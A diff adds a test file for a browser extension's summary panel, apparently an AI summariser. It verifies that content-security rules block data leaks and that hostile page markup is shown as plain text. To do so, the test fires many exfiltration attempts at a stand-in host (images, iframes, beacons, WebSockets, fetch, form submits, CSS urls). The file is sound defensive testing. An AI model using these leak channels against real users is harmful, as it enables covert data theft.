@@ -1,0 +1,69 @@
+// Nothing gets out of the extension's pages: neither by what a page or a model says, nor by anything that such text could become.
+import { describe, expect, test } from 'vitest';
+import { useBrowser } from './harness.ts';
+import { pressMainButton, quotes, untilDone } from './summary-panel.ts';
+
+const OUTSIDE = 'leak.example.org';
+
+describe('leaks', () => {
+  const subject = useBrowser();
+
+  test('the recording proxy sees what an ordinary page asks for', async () => {
+    const page = await subject.open('article.html');
+    await page.evaluate((host) => fetch(`http://${host}/seen`, { mode: 'no-cors' }), OUTSIDE);
+    expect(subject.driver.foreignRequests.splice(0)).toEqual([`http://${OUTSIDE}/seen`]);
+  });
+
+  test("the extension's policy stops every way out of its panel", async () => {
+    const page = await subject.open('article.html');
+    const panel = await subject.driver.openPanel(page);
+    const outcomes = await panel.evaluate(async (host) => {
+      const url = (way: string) => `http://${host}/${way}`;
+      const element = (tag: string, properties: object) =>
+        document.body.append(Object.assign(document.createElement(tag), properties));
+      element('img', { src: url('img') });
+      element('video', { poster: url('poster') });
+      element('iframe', { src: url('iframe') });
+      element('link', { rel: 'prefetch', href: url('prefetch') });
+      element('link', { rel: 'stylesheet', href: url('style') });
+      element('script', { src: url('script') });
+      element('style', { textContent: `body { background: url(${url('background')}) }` });
+      const form = Object.assign(document.createElement('form'), { action: url('form'), target: '_self' });
+      document.body.append(form);
+      form.submit();
+      navigator.sendBeacon(url('beacon'), 'text');
+      const socket = new Promise((resolve) => {
+        try {
+          const opened = new WebSocket(`ws://${host}/socket`);
+          opened.onerror = () => resolve('refused');
+          opened.onopen = () => resolve('open');
+        } catch {
+          resolve('refused');
+        }
+      });
+      const fetched = fetch(url('fetch'), { mode: 'no-cors' }).then(
+        () => 'answered',
+        () => 'refused',
+      );
+      return [await socket, await fetched];
+    }, OUTSIDE);
+    expect(outcomes).toEqual(['refused', 'refused']);
+    expect(subject.driver.foreignRequests).toEqual([]);
+    expect(await panel.evaluate(() => location.protocol)).toMatch(/extension:$/);
+  });
+
+  test('markup in the text of a page is shown as text', async () => {
+    const page = await subject.open('hostile.html');
+    const panel = await subject.driver.openPanel(page);
+    await pressMainButton(panel);
+    await untilDone(panel);
+    const shown = (await quotes(panel)).join(' ');
+    expect(shown).toContain(`<img src=`);
+    const elements = await panel.evaluate(() =>
+      [...document.querySelectorAll('main *')]
+        .map(({ localName }) => localName)
+        .filter((name) => /^(a|img|iframe|script|meta|link|form)$/.test(name)),
+    );
+    expect(elements).toEqual([]);
+  });
+});
